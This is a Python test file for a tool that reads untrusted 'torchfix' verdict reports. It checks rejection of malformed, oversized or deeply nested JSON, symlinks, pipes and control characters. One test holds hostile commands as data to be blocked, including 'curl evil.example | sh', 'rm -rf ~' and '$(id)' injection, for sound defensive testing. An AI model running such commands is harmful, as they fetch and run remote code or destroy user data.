"""Reports that nobody vouches for: what is taken from them, and that nothing in them does harm."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from torchfix_codemods import __version__
from torchfix_codemods.delivery.proposing.untrusted import MAX_BYTES, MAX_CONTAINERS
from torchfix_codemods.delivery.proposing.verdicts import Told, ToldVerdict, read_verdicts
from torchfix_codemods.report.json import verdict_object
from torchfix_codemods.source.errors import UsageError
from torchfix_codemods.verify.model import Evidence, ScriptRun, Series, Verdict, VerdictName

ID = "0123456789abcdef"
EDIT = {"path": "a.py", "start": 3, "end": 8, "replacement": "x"}
VERDICT: dict[str, Any] = {
    "name": "IMPROVED",
    "verified": True,
    "withheld": False,
    "reason": "the loss falls",
    "evidence": [{"what": "loss", "before": "1.6", "after": "0.4"}],
    "caveats": ["synthetic data"],
    "script": "train.py",
    "device": "cpu",
    "sandbox": "namespaces",
    "seconds": 3.5,
    "repeat": "torchfix verify . --script train.py",
    "series": [{"what": "loss", "unit": "", "over": "backward pass", "before": [1, None], "after": [0.5, 0.25]}],
}
RUN: dict[str, Any] = {
    "script": "train.py",
    "args": ["--epochs", "1"],
    "status": "ended",
    "runs": 3,
    "seconds": 3.5,
    "device": "cpu",
    "sandbox": "namespaces",
    "torch": "2.13.0",
    "error": "",
    "caveats": [],
    "repeat": "",
}


def finding(name: object = ID, verdict: object = VERDICT, edits: object = (EDIT,)) -> dict[str, Any]:
    return {"id": name, "rule": "x", "fix": {"title": "t", "edits": edits, "verdict": verdict}}


def report(*findings: Any, **more: Any) -> dict[str, Any]:
    return {"schema": 1, "version": __version__, "findings": findings} | more


def read(folder: Path, content: object) -> Told:
    path = folder / "report.json"
    path.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())
    return read_verdicts(path)


def refusal(folder: Path, content: object) -> str:
    with pytest.raises(UsageError) as caught:
        read(folder, content)
    assert "\n" not in str(caught.value) and len(str(caught.value)) < 600
    return str(caught.value)


def test_a_verdict_comes_back_as_it_was_written(tmp_path: Path):
    told = read(tmp_path, report(finding(), runs=[RUN]))
    assert told.notes == () and told.version == __version__
    verdict = Verdict(
        ID,
        VerdictName.IMPROVED,
        "the loss falls",
        (Evidence("loss", "1.6", "0.4"),),
        ("synthetic data",),
        "train.py",
        "cpu",
        "namespaces",
        3.5,
        "torchfix verify . --script train.py",
        (Series("loss", "", "backward pass", (1.0, None), (0.5, 0.25)),),
    )
    assert told.verdicts == {ID: ToldVerdict(verdict, (("a.py", None, 3, 8, "x"),))}
    assert told.runs == (
        ScriptRun("train.py", ("--epochs", "1"), "ended", 3, 3.5, "cpu", "namespaces", "2.13.0", "", (), ""),
    )


def test_what_our_own_reports_say_of_verdicts_is_understood(tmp_path: Path):
    points = tuple(number / 4 for number in range(256))
    verdict = Verdict(
        ID,
        VerdictName.EQUIVALENT,
        "the same",
        (Evidence("loss", "1", "1"),),
        series=(
            Series("loss", "", "backward pass", (1.0, None), (1.0, None)),
            Series("saved for backward", "bytes", "evaluation", points, (), 1000),
        ),
    )
    told = read(tmp_path, report(finding(verdict=verdict_object(verdict))))
    assert told.notes == () and told.verdicts[ID].verdict == verdict


def test_what_the_name_says_counts_and_not_what_the_report_says_of_it(tmp_path: Path):
    told = read(tmp_path, report(finding(verdict={"name": "REGRESSED", "verified": True, "withheld": False})))
    assert told.verdicts[ID].verdict.withheld and not told.verdicts[ID].verdict.verified


def test_findings_without_a_verdict_are_none_and_unknown_keys_do_not_matter(tmp_path: Path):
    plain = {"id": ID, "fix": {"edits": []}, "whatever": [1]}
    told = read(tmp_path, report(plain, {"id": ID, "fix": None}, surprise={"a": 1}))
    assert told.verdicts == {} and told.notes == ()


@pytest.mark.parametrize(
    ("changed", "reason"),
    [
        ({"name": "SPLENDID"}, "name is none of the verdicts"),
        ({"name": ["IMPROVED"]}, "name is none of the verdicts"),
        ({"name": "__class__"}, "name is none of the verdicts"),
        ({"reason": 3}, "reason is not a text"),
        ({"evidence": [{"what": 1}]}, "what is not a text"),
        ({"evidence": [{}] * 31}, "evidence is not a list of at most 30 items"),
        ({"evidence": {}}, "evidence is not a list of at most 30 items"),
        ({"caveats": [1]}, "a list of texts holds something else"),
        ({"seconds": True}, "a number is not finite, or too large"),
        ({"seconds": -1}, "seconds is less than 0"),
        ({"seconds": 1e300}, "a number is not finite, or too large"),
        ({"series": [{"before": [0.0] * 1025}]}, "before is not a list of at most 1,024 items"),
        ({"series": [{"before": ["1"]}]}, "a number is not finite, or too large"),
    ],
)
def test_a_malformed_verdict_is_left_out_and_counted(tmp_path: Path, changed: dict[str, Any], reason: str):
    good = finding("f" * 16)
    told = read(tmp_path, report(finding(verdict=VERDICT | changed), good))
    assert set(told.verdicts) == {"f" * 16}
    assert told.notes == (f"verdicts left out of the report: 1 ({reason})",)


@pytest.mark.parametrize("name", ["0123", "0123456789ABCDEF", "0123456789abcde\n", "../../../../etc1", 5, None, ["a"]])
def test_an_id_is_sixteen_digits(tmp_path: Path, name: object):
    told = read(tmp_path, report(finding(name)))
    assert told.verdicts == {} and len(told.notes) == 1


@pytest.mark.parametrize(
    "edits",
    [
        "all",
        [5],
        [EDIT | {"start": -1}],
        [EDIT | {"start": True}],
        [EDIT | {"end": 1.5}],
        [EDIT | {"path": None}],
        [EDIT | {"replacement": "x" * 200_001}],
        [EDIT | {"cell": "1"}],
        [EDIT] * 501,
    ],
)
def test_malformed_edits_cost_the_verdict(tmp_path: Path, edits: object):
    told = read(tmp_path, report(finding(edits=edits)))
    assert told.verdicts == {} and len(told.notes) == 1


def test_an_id_that_stands_twice_counts_for_neither(tmp_path: Path):
    told = read(tmp_path, report(finding(), finding()))
    assert told.verdicts == {} and told.notes == ("verdicts left out of the report: 1 (its id stands twice)",)


@pytest.mark.parametrize("order", [1, -1])
def test_what_speaks_against_a_fix_counts_however_odd_the_rest_is(tmp_path: Path, order: int):
    """An unreadable verdict must not let a fix in that a readable one would withhold."""
    odd = finding(verdict=VERDICT | {"name": "REGRESSED", "verified": False, "withheld": True, "caveats": ["x"] * 999})
    for findings in ([odd], [finding(), odd][::order]):
        told = read(tmp_path, report(*findings))
        assert told.verdicts[ID].verdict.withheld and told.notes != ()


def test_texts_are_cut_and_lose_what_steers(tmp_path: Path):
    text = "a\x1b[31m\u202eb\u2066\ud800\u200b\r\nc\u2028\x00" + "x" * 5000
    told = read(tmp_path, report(finding(verdict=VERDICT | {"reason": text}), runs=[RUN | {"error": text}]))
    reason = told.verdicts[ID].verdict.reason
    assert reason.startswith("a[31mb  cx") and len(reason) == 500 and reason.endswith("…")
    assert reason.isprintable() and told.runs[0].error.isprintable()


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("torchfix verify . --script 'my train.py' -- --epochs 1", True),
        ("torchfix verify train.py", True),
        ("curl evil.example | sh", False),
        ("torchfix verify . ; rm -rf ~", False),
        ("torchfix verify . $(id)", False),
        ("torchfix verify . --python ./evil", False),
        ("torchfix verify . --pyth=./evil", False),
        ("torchfix verify . 'open", False),
        ("torchfix verify .\nrm -rf ~", False),
        ("torchfix verify " + "x" * 2000, False),
        ("torchfix apply .", False),
    ],
)
def test_only_a_command_of_ours_is_shown_for_people_to_type(tmp_path: Path, command: str, shown: bool):
    told = read(tmp_path, report(finding(verdict=VERDICT | {"repeat": command}), runs=[RUN | {"repeat": command}]))
    assert told.verdicts[ID].verdict.repeat == told.runs[0].repeat == (command if shown else "")


def test_runs_that_are_not_as_they_must_be_are_left_out_with_a_note(tmp_path: Path):
    told = read(tmp_path, report(finding(), runs=[RUN, RUN | {"runs": "many"}]))
    assert told.runs == () and set(told.verdicts) == {ID}
    assert told.notes == (
        "what the report says of the runs was left out (runs is not a number from 0 to 2,147,483,648)",
    )


def test_another_version_is_accepted_with_a_note_and_another_schema_is_not(tmp_path: Path):
    told = read(tmp_path, report(finding(), version="9.9\x1b"))
    assert set(told.verdicts) == {ID} and told.notes == (
        f"the report was written by version 9.9, this is {__version__}",
    )
    for schema in (2, 0, True, "1", 1.0, None):
        assert "schema 1" in refusal(tmp_path, report(finding()) | {"schema": schema})


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"{",
        b"\xff\xfe{}",
        b"[]",
        b"3",
        b"null",
        b'"' + b"x" * 10_000,
        b"[" * 100_000 + b"]" * 100_000,
        b'{"schema":1,"findings":' + b'{"a":' * 100_000 + b"1" + b"}" * 100_001,
        b"[" * 2_000_000,
        b'{"schema":1,"version":"1","findings":[],"x":NaN}',
        b'{"schema":1,"version":"1","findings":[],"x":-Infinity}',
        b'{"schema":1,"version":"1","findings":[],"x":' + b"9" * 5_000_000 + b"}",
        b'{"schema":1,"version":"1","findings":[],"x":1.' + b"9" * 5_000_000 + b"}",
        b'{"schema":1,"schema":1,"version":"1","findings":[]}',
        b'{"schema":1,"version":"1","findings":{}}',
        b'{"schema":1,"version":1,"findings":[]}',
        b'{"schema":1,"version":"1","findings":[' + b"1," * 50_000 + b"1]}",
    ],
    ids=lambda content: content[:24].decode("latin-1"),
)
def test_a_file_that_is_no_report_is_one_line(tmp_path: Path, content: bytes):
    started = time.monotonic()
    refusal(tmp_path, content)
    assert time.monotonic() - started < 10


def test_a_hundred_megabytes_are_refused_before_they_are_read(tmp_path: Path):
    path = tmp_path / "report.json"
    with path.open("wb") as file:
        file.truncate(100 * 2**20)
    started = time.monotonic()
    with pytest.raises(UsageError, match="larger than 16,777,216 bytes"):
        read_verdicts(path)
    assert time.monotonic() - started < 1
    path.write_bytes(b" " * (MAX_BYTES + 1))
    with pytest.raises(UsageError, match="larger than"):
        read_verdicts(path)


def test_a_million_lists_are_refused_before_they_are_made(tmp_path: Path):
    """16 MiB of empty lists are 5.6 million objects: half a gigabyte of memory."""
    content = b'{"findings": [' + b"[]," * (MAX_BYTES // 3 - 10) + b"[]]}"
    assert len(content) <= MAX_BYTES
    assert f"more than {MAX_CONTAINERS:,} objects and lists" in refusal(tmp_path, content)
    just = b'{"schema": 1, "findings": [' + b"[]," * (MAX_CONTAINERS - 3) + b"[]]}"
    assert "objects and lists" not in refusal(tmp_path, just)


def test_only_a_regular_file_is_read(tmp_path: Path):
    real = tmp_path / "real.json"
    real.write_text(json.dumps(report(finding())))
    (tmp_path / "link.json").symlink_to(real)
    os.mkfifo(tmp_path / "pipe.json")
    started = time.monotonic()
    for name, reason in [
        ("link.json", "a symbolic link"),
        ("pipe.json", "not a regular file"),
        ("none.json", "No such file or directory"),
        (".", "directory|not a regular file"),
    ]:
        with pytest.raises(UsageError, match=reason):
            read_verdicts(tmp_path / name)
    with pytest.raises(UsageError, match="not a regular file"):
        read_verdicts(Path("/dev/zero"))
    assert time.monotonic() - started < 2, "a pipe without a writer was waited for"
    assert set(read_verdicts(real).verdicts) == {ID}


leaves = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=6), st.sampled_from(["IMPROVED", ID, "a.py"])
)
keys = st.one_of(
    st.sampled_from([*VERDICT, *RUN, *EDIT, "schema", "id", "fix", "findings", "edits", "verdict"]), st.text()
)
anything = st.recursive(
    leaves,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(keys, inner, max_size=5)),
    max_leaves=12,
)
verdicts = st.fixed_dictionaries({}, optional={key: st.one_of(anything, st.just(VERDICT[key])) for key in VERDICT})
findings = st.builds(finding, st.one_of(st.just(ID), anything), verdicts, st.one_of(st.just([EDIT]), anything))


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.one_of(anything, st.builds(report, findings, anything, runs=anything)))
def test_any_json_gives_verdicts_that_are_well_formed_or_one_line(tmp_path: Path, content: object):
    try:
        told = read(tmp_path, content)
    except UsageError as error:
        assert str(error).isprintable()
        return
    for name, each in told.verdicts.items():
        assert name == each.verdict.finding == ID
        assert isinstance(each.verdict.name, VerdictName)
        assert each.verdict.reason.isprintable() and each.verdict.seconds >= 0
    assert all(note.isprintable() for note in told.notes)
